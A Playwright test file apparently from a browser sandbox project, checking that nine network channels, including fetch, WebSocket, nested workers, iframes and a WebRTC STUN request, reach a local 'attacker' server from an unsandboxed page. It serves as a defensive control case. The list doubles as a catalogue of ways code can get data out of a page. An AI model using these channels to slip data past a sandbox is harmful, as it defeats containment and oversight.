import { expect } from '@playwright/test';
import { startAttacker } from '../support/attacker.ts';
import { test } from '../support/sandbox-test.ts';

/** The same attempts from a plain page do arrive: the attacker's counter can see an escape. */
const ATTEMPTS: Record<string, (url: string) => unknown> = {
	fetch: (url) => fetch(url, { mode: 'no-cors' }),
	XMLHttpRequest: (url) => {
		const request = new XMLHttpRequest();
		request.open('GET', url);
		request.send();
	},
	WebSocket: (url) => void new WebSocket(url.replace('http', 'ws')),
	EventSource: (url) => void new EventSource(url),
	import: (url) => import(/* @vite-ignore */ `${url}/x.js`),
	'an image': (url) => {
		new Image().src = url;
	},
	'a nested worker': (url) => {
		const script = URL.createObjectURL(new Blob([`fetch('${url}', { mode: 'no-cors' })`]));
		void new Worker(script);
	},
	'a frame': (url) => {
		const frame = document.createElement('iframe');
		frame.src = url;
		document.body.append(frame);
	},
	'peer connection': async (url) => {
		const { port } = new URL(url);
		const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
		peer.createDataChannel('x');
		await peer.setLocalDescription();
		await new Promise((resolve) => setTimeout(resolve, 1000));
	},
};

for (const [name, act] of Object.entries(ATTEMPTS)) {
	test(`${name} from a plain page reaches the attacker`, async ({ page, harness }) => {
		const attacker = await startAttacker();
		await page.goto(harness.url.replace('harness.html', 'nothing'));
		await page.evaluate(act, attacker.url).catch(() => {});
		await expect.poll(() => attacker.arrived).not.toEqual([]);
		await attacker.close();
	});
}
